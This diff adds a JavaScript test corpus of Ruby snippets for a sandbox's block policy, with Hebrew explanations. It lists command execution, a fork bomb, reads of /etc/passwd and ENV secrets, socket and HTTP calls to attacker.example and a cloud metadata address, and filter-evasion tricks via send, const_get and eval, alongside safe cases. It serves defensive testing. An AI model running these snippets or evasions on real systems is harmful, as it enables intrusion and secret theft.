@@ -0,0 +1,588 @@
+/**
+ * Ruby Security Attack Vectors
+ *
+ * Ruby reaches the host through Kernel - system, backticks, exec, spawn,
+ * open - and through classes that are ordinary values: File, IO, Dir,
+ * the socket classes. Both can be reached without being named, by
+ * send, method, const_get or eval on a computed string, or by asking an
+ * allowed object for its class. So the corpus carries each way of
+ * naming a thing as well as each thing.
+ *
+ * Each test includes:
+ * - name: Test identifier
+ * - code: The malicious code attempt
+ * - expectBlocked: Whether this should be blocked (true) or allowed (false)
+ * - category: Attack category for grouping
+ * - explanation: Human-readable description of how hackers use this attack
+ */
+
+export const rubyTests = [
+  // ════════════════════════════════════════════════════════════════
+  // COMMAND / PROCESS EXECUTION
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Ruby: system shell command',
+    code: `system("id")
+puts "done"`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: הרצת פקודות Shell
+
+      איך תוקפים משתמשים בזה:
+      Kernel#system מעביר מחרוזת ל-‎/bin/sh‎. כל פקודת shell
+      שהיא מתארת רצה עם ההרשאות של השירות.
+
+      השפעה בעולם האמיתי:
+      - Reverse shells ותנועה רוחבית ברשת
+      - קריאת סודות כמו מפתחות SSH וטוקנים
+      - התקנת כורים או דלתות אחוריות בשרת
+    `,
+  },
+  {
+    name: 'Ruby: backticks',
+    code: `output = \`cat /etc/passwd\`
+puts output`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: פקודה בתוך גרשיים הפוכים
+
+      איך תוקפים משתמשים בזה:
+      ברובי, טקסט בין גרשיים הפוכים איננו מחרוזת - הוא פקודת
+      shell, והפלט שלה חוזר כערך. זו הדרך הקצרה ביותר להריץ
+      פקודה בשפה.
+    `,
+  },
+  {
+    name: 'Ruby: %x literal',
+    code: `files = %x(ls -la /)
+puts files`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: ‎%x‎ כפקודה
+
+      איך תוקפים משתמשים בזה:
+      ‎%x(...)‎ הוא גרשיים הפוכים בכתיב אחר, עם כל תו תוחם.
+      מסנן שמחפש רק את התו \` מפספס אותו.
+    `,
+  },
+  {
+    name: 'Ruby: exec replaces the program',
+    code: `exec("/bin/sh", "-c", "whoami")`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: החלפת התוכנית
+
+      איך תוקפים משתמשים בזה:
+      exec מחליף את תוכנית הרובי שרצה בתוכנית אחרת באותו
+      תהליך. ה-shell יורש את כל מה שהיה לתוכנית.
+    `,
+  },
+  {
+    name: 'Ruby: spawn in the background',
+    code: `pid = spawn("sleep 1000")
+puts pid`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: תהליך ברקע
+
+      איך תוקפים משתמשים בזה:
+      spawn מפעיל פקודה בלי לחכות לה. תהליך שנשאר לרוץ אחרי
+      שהתוכנית הסתיימה הוא דריסת רגל שמגבלת הזמן לא רואה.
+    `,
+  },
+  {
+    name: 'Ruby: fork bomb',
+    code: `loop { fork { loop {} } }`,
+    expectBlocked: true,
+    category: 'resource_exhaustion',
+    explanation: `
+      🎯 התקפה: פצצת fork
+
+      איך תוקפים משתמשים בזה:
+      כל fork מכפיל את מספר התהליכים עד שטבלת התהליכים
+      מתמלאת והמחשב מפסיק להגיב.
+    `,
+  },
+  {
+    name: 'Ruby: IO.popen',
+    code: `IO.popen(["id"]) { |io| puts io.read }`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: צינור לתהליך
+
+      איך תוקפים משתמשים בזה:
+      IO.popen מריץ פקודה ומחבר את הפלט שלה לזרם שהתוכנית
+      קוראת. הוא אף פעם לא קורא ל-system.
+    `,
+  },
+  {
+    name: 'Ruby: Open3',
+    code: `require "open3"
+out, status = Open3.capture2("uname -a")
+puts out`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: הספרייה Open3
+
+      איך תוקפים משתמשים בזה:
+      Open3 היא העטיפה הנוחה של הספרייה הסטנדרטית להרצת
+      פקודות וללכידת הפלט שלהן.
+    `,
+  },
+  {
+    name: 'Ruby: Kernel.system with a receiver',
+    code: `Kernel.system("id")`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: Kernel כמקבל מפורש
+
+      איך תוקפים משתמשים בזה:
+      כתיבת ‎Kernel.‎ לפני system עוקפת מסנן שמחפש רק את שם
+      המתודה לבדו.
+    `,
+  },
+  {
+    name: 'Ruby: Kernel#open with a pipe',
+    code: `open("|id") { |f| puts f.read }`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: צינור דרך open
+
+      איך תוקפים משתמשים בזה:
+      Kernel#open מתייחס לנתיב שמתחיל ב-"|" כפקודה להרצה.
+      קריאה שנראית כמו קריאת קובץ מפעילה בעצם shell.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // REFLECTION AND CODE AS DATA
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Ruby: send(:system)',
+    code: `Object.new.send(:system, "id")`,
+    expectBlocked: true,
+    category: 'reflection',
+    explanation: `
+      🎯 התקפה: קריאה למתודה פרטית לפי שם
+
+      איך תוקפים משתמשים בזה:
+      send קורא לכל מתודה, כולל פרטיות, לפי שם שהוא רק נתון.
+      המילה "system" צריכה להופיע רק כסמל - או להיבנות
+      מחלקים בזמן ריצה.
+    `,
+  },
+  {
+    name: 'Ruby: method with a computed name',
+    code: `name = ["sys", "tem"].join
+method(name).call("id")`,
+    expectBlocked: true,
+    category: 'reflection',
+    explanation: `
+      🎯 התקפה: אובייקט מתודה ממחרוזת
+
+      איך תוקפים משתמשים בזה:
+      method(name) הופך כל שם לאובייקט שאפשר לקרוא לו. כשהשם
+      מורכב בזמן ריצה, אף מילה מסוכנת לא מופיעה בקוד.
+    `,
+  },
+  {
+    name: 'Ruby: eval',
+    code: `code = "sys" + "tem('id')"
+eval(code)`,
+    expectBlocked: true,
+    category: 'reflection',
+    explanation: `
+      🎯 התקפה: הרצת מחרוזת כקוד
+
+      איך תוקפים משתמשים בזה:
+      eval מריץ מחרוזת כקוד רובי. כל מה שהמדיניות חוסמת אפשר
+      לאיית בחלקים, לחבר ולהריץ.
+    `,
+  },
+  {
+    name: 'Ruby: instance_eval with a string',
+    code: `Object.new.instance_eval("\`id\`".reverse.reverse)`,
+    expectBlocked: true,
+    category: 'reflection',
+    explanation: `
+      🎯 התקפה: instance_eval
+
+      איך תוקפים משתמשים בזה:
+      instance_eval,‏ class_eval ו-module_eval מקבלות גם
+      מחרוזת ולא רק בלוק, ולכן כל אחת מהן היא eval בשם אחר.
+    `,
+  },
+  {
+    name: 'Ruby: binding.irb',
+    code: `x = 1
+binding.irb`,
+    expectBlocked: true,
+    category: 'reflection',
+    explanation: `
+      🎯 התקפה: פתיחת REPL
+
+      איך תוקפים משתמשים בזה:
+      binding.irb פותח שורת פקודה אינטראקטיבית של רובי בתוך
+      התוכנית. כל שורה שמוקלדת לקונסולה אחר כך רצה בלי לעבור
+      במדיניות.
+    `,
+  },
+  {
+    name: 'Ruby: const_get reaches IO',
+    code: `io = Object.const_get(:IO)
+io.popen("id").read`,
+    expectBlocked: true,
+    category: 'reflection',
+    explanation: `
+      🎯 התקפה: חיפוש מחלקה לפי שם
+
+      איך תוקפים משתמשים בזה:
+      const_get מוצא כל מחלקה לפי סמל או מחרוזת, כך שאפשר
+      להגיע ל-IO בלי לכתוב אותה אף פעם כקבוע.
+    `,
+  },
+  {
+    name: 'Ruby: Marshal.load',
+    code: `data = gets
+obj = Marshal.load(data)`,
+    expectBlocked: true,
+    category: 'deserialization',
+    explanation: `
+      🎯 התקפה: פענוח סריאליזציה לא בטוח
+
+      איך תוקפים משתמשים בזה:
+      Marshal.load בונה מחדש אובייקטים שרירותיים מבתים.
+      שרשראות gadget ידועות בספרייה הסטנדרטית הופכות את זה
+      להרצת פקודה.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // FILE SYSTEM
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Ruby: File.read /etc/passwd',
+    code: `puts File.read("/etc/passwd")`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 התקפה: קריאת קובצי מערכת
+
+      איך תוקפים משתמשים בזה:
+      File.read מחזיר קובץ שלם בקריאה אחת. ‎/etc/passwd‎, קובצי
+      הגדרות ועבודות של תלמידים אחרים נמצאים במרחק נתיב.
+    `,
+  },
+  {
+    name: 'Ruby: File.write',
+    code: `File.write("/tmp/payload.rb", "puts :owned")`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 התקפה: כתיבת קבצים
+
+      איך תוקפים משתמשים בזה:
+      קובץ שנכתב חי יותר מהתוכנית: סקריפט שהושאר לאחר כך,
+      קובץ הגדרות שנדרס, דיסק שהתמלא.
+    `,
+  },
+  {
+    name: 'Ruby: File held in a variable',
+    code: `f = File
+puts f.readlines("/etc/hostname")`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 התקפה: מחלקה שמורה כערך
+
+      איך תוקפים משתמשים בזה:
+      מחלקה ברובי היא אובייקט רגיל. כשהיא מושמת למשתנה, קוראים
+      לה בשם שאף מסנן של "File.read" לא יראה - ולכן המחלקה
+      עצמה נחסמת.
+    `,
+  },
+  {
+    name: 'Ruby: IO reached through $stdin.class',
+    code: `puts $stdin.class.read("/etc/passwd")`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 התקפה: הגעה ל-IO בלי לכתוב אותה
+
+      איך תוקפים משתמשים בזה:
+      ‏$stdin מותר, והמחלקה שלו היא IO. ‎.class‎ מחזיר את המחלקה
+      מכל זרם, ו-IO.read פותח כל נתיב.
+    `,
+  },
+  {
+    name: 'Ruby: Dir listing',
+    code: `puts Dir.entries("/home")`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 התקפה: רשימת תיקיות
+
+      איך תוקפים משתמשים בזה:
+      רשימת תיקיות היא איסוף מודיעין: היא מספרת לתוקף אילו
+      קבצים קיימים לפני שקוראים אחד מהם.
+    `,
+  },
+  {
+    name: 'Ruby: load any file as code',
+    code: `load "/etc/hostname"`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 התקפה: טעינת קובץ שאינו רובי
+
+      איך תוקפים משתמשים בזה:
+      load מריץ כל קובץ כקוד רובי, בלי קשר לסיומת. כשהניתוח
+      נכשל, שגיאת התחביר מצטטת בחזרה את השורה הראשונה של
+      הקובץ.
+    `,
+  },
+  {
+    name: 'Ruby: ARGV turns gets into a file read',
+    code: `ARGV << "/etc/passwd"
+puts gets`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 התקפה: gets שקורא קובץ
+
+      איך תוקפים משתמשים בזה:
+      gets קורא מהקבצים ששמם ב-ARGV לפני שהוא קורא מהקונסולה.
+      הוספת נתיב ל-ARGV הופכת את קריאת הקלט התמימה ביותר
+      לקריאת קובץ.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // NETWORK
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Ruby: TCPSocket reverse shell',
+    code: `require "socket"
+s = TCPSocket.new("attacker.example", 4444)
+s.puts "connected"`,
+    expectBlocked: true,
+    category: 'network',
+    explanation: `
+      🎯 התקפה: Reverse Shell
+
+      איך תוקפים משתמשים בזה:
+      socket שחוזר למחשב של התוקף הופך לקונסולה מרוחקת ברגע
+      שהתוכנית קוראת ממנו פקודות.
+    `,
+  },
+  {
+    name: 'Ruby: Net::HTTP',
+    code: `require "net/http"
+puts Net::HTTP.get(URI("http://169.254.169.254/latest/meta-data/"))`,
+    expectBlocked: true,
+    category: 'network',
+    explanation: `
+      🎯 התקפה: בקשת HTTP
+
+      איך תוקפים משתמשים בזה:
+      בקשת HTTP מתוך השירות מגיעה לכתובות שדפדפן לא יכול
+      להגיע אליהן - נקודות metadata של הענן, לוחות בקרה
+      פנימיים - ויכולה לשלוח מידע החוצה.
+    `,
+  },
+  {
+    name: 'Ruby: open-uri',
+    code: `require "open-uri"
+puts URI.open("http://attacker.example/").read`,
+    expectBlocked: true,
+    category: 'network',
+    explanation: `
+      🎯 התקפה: open-uri
+
+      איך תוקפים משתמשים בזה:
+      open-uri הופכת כתובת URL לדבר שאפשר לפתוח כמו קובץ.
+      require אחד וקריאה אחת הם הורדה שלמה.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // ENVIRONMENT AND PROCESS
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Ruby: ENV secrets',
+    code: `ENV.each { |k, v| puts "#{k}=#{v}" }`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 התקפה: סודות בסביבה
+
+      איך תוקפים משתמשים בזה:
+      שירותים שומרים מפתחות API וסיסמאות במשתני סביבה. ENV
+      הוא hash של כולם.
+    `,
+  },
+  {
+    name: 'Ruby: Process.kill',
+    code: `Process.kill("KILL", Process.ppid)`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 התקפה: שליחת אותות לתהליכים אחרים
+
+      איך תוקפים משתמשים בזה:
+      Process.kill שולח אותות לכל תהליך של המשתמש. כשהוא מכוון
+      להורה, הוא מפיל את מה שהפעיל את התוכנית.
+    `,
+  },
+  {
+    name: 'Ruby: trap ignores interrupts',
+    code: `trap("TERM") { puts "not stopping" }
+loop { sleep 1 }`,
+    expectBlocked: true,
+    category: 'signal_handling',
+    explanation: `
+      🎯 התקפה: התעלמות מסיום
+
+      איך תוקפים משתמשים בזה:
+      תוכנית שלוכדת את TERM מחליטה בעצמה אם לעצור. יחד עם
+      לולאה אינסופית היא שורדת את הדרך המנומסת לסיים אותה.
+    `,
+  },
+  {
+    name: 'Ruby: $LOAD_PATH from /tmp',
+    code: `$LOAD_PATH.unshift("/tmp")
+require "payload"`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 התקפה: הזרקה לנתיב הטעינה
+
+      איך תוקפים משתמשים בזה:
+      שינוי נתיב הטעינה גורם ל-require הבא לטעון קובץ שהתוקף
+      הניח במקום אחר, במקום הספרייה שהוא מציין.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // ENCODING BYPASS
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Ruby: command hidden in interpolation',
+    code: `puts "#{\`whoami\`}"`,
+    expectBlocked: true,
+    category: 'encoding_bypass',
+    explanation: `
+      🎯 התקפה: פקודה בתוך מחרוזת
+
+      איך תוקפים משתמשים בזה:
+      רובי מריצה קוד שבתוך ‎"#{...}"‎, ולכן פקודה בגרשיים הפוכים
+      יכולה להסתתר במה שנראה כמו הודעה רגילה. המדיניות קוראת
+      את כל הקוד, כולל מחרוזות.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // SAFE CODE (should NOT be blocked)
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Ruby: Safe print',
+    code: `puts "Hello, World!"`,
+    expectBlocked: false,
+    expectedOutput: 'Hello, World!',
+    category: 'safe_code',
+    explanation: `
+      ✅ בטוח: פלט בסיסי
+
+      puts כותב לקונסולה ולא יותר. תוכניות רגילות חייבות
+      להמשיך לעבוד.
+    `,
+  },
+  {
+    name: 'Ruby: Safe reading input',
+    code: `print "Name: "
+name = gets&.chomp || "stranger"
+puts "Hi, #{name}"`,
+    expectBlocked: false,
+    category: 'safe_code',
+    explanation: `
+      ✅ בטוח: קריאת קלט
+
+      gets קורא מהקונסולה. כשאין כלום ב-ARGV, זה כל מה שהוא
+      יכול לקרוא.
+    `,
+  },
+  {
+    name: 'Ruby: Safe classes and blocks',
+    code: `class Door
+  def initialize
+    @open = false
+  end
+
+  def open
+    @open = true
+    self
+  end
+
+  def open?
+    @open
+  end
+end
+
+puts Door.new.open.open?`,
+    expectBlocked: false,
+    expectedOutput: 'true',
+    category: 'safe_code',
+    explanation: `
+      ✅ בטוח: מתודה בשם open
+
+      מתודת open של התלמיד, שמוגדרת ונקראת על אובייקט שלו,
+      איננה Kernel#open ואסור לחסום אותה.
+    `,
+  },
+  {
+    name: 'Ruby: Safe method references',
+    code: `[3, 1, 2].sort.each(&method(:puts))
+printf("%x\\n", 255)`,
+    expectBlocked: false,
+    category: 'safe_code',
+    explanation: `
+      ✅ בטוח: ‎method(:name)‎ ומחרוזות עיצוב
+
+      method עם סמל מפורש הוא סגנון פונקציונלי רגיל, ו-‎%x‎
+      בתוך מחרוזת עיצוב הוא הקסדצימלי, לא פקודה.
+    `,
+  },
+  {
+    name: 'Ruby: Safe JSON',
+    code: `require "json"
+data = JSON.parse('{"lang": "ruby", "year": 1995}')
+puts "#{data["lang"]} #{data["year"]}"`,
+    expectBlocked: false,
+    expectedOutput: 'ruby 1995',
+    category: 'safe_code',
+    explanation: `
+      ✅ בטוח: פורמטי נתונים מהספרייה הסטנדרטית
+
+      json מנתחת ומייצרת טקסט. אין לה קלט/פלט משלה.
+    `,
+  },
+  {
+    name: 'Ruby: Safe timing and file names',
+    code: `start = Process.clock_gettime(Process::CLOCK_MONOTONIC)
+name = File.basename("reports/summary.txt", ".txt")
+elapsed = Process.clock_gettime(Process::CLOCK_MONOTONIC) - start
+puts name if elapsed >= 0`,
+    expectBlocked: false,
+    expectedOutput: 'summary',
+    category: 'safe_code',
+    explanation: `
+      ✅ בטוח: שעונים ומחרוזות נתיב
+
+      מדידת זמן ופירוק נתיב הם חישוב. רק הקריאות של Process
+      ו-File שמגיעות למערכת נחסמות.
+    `,
+  },
+];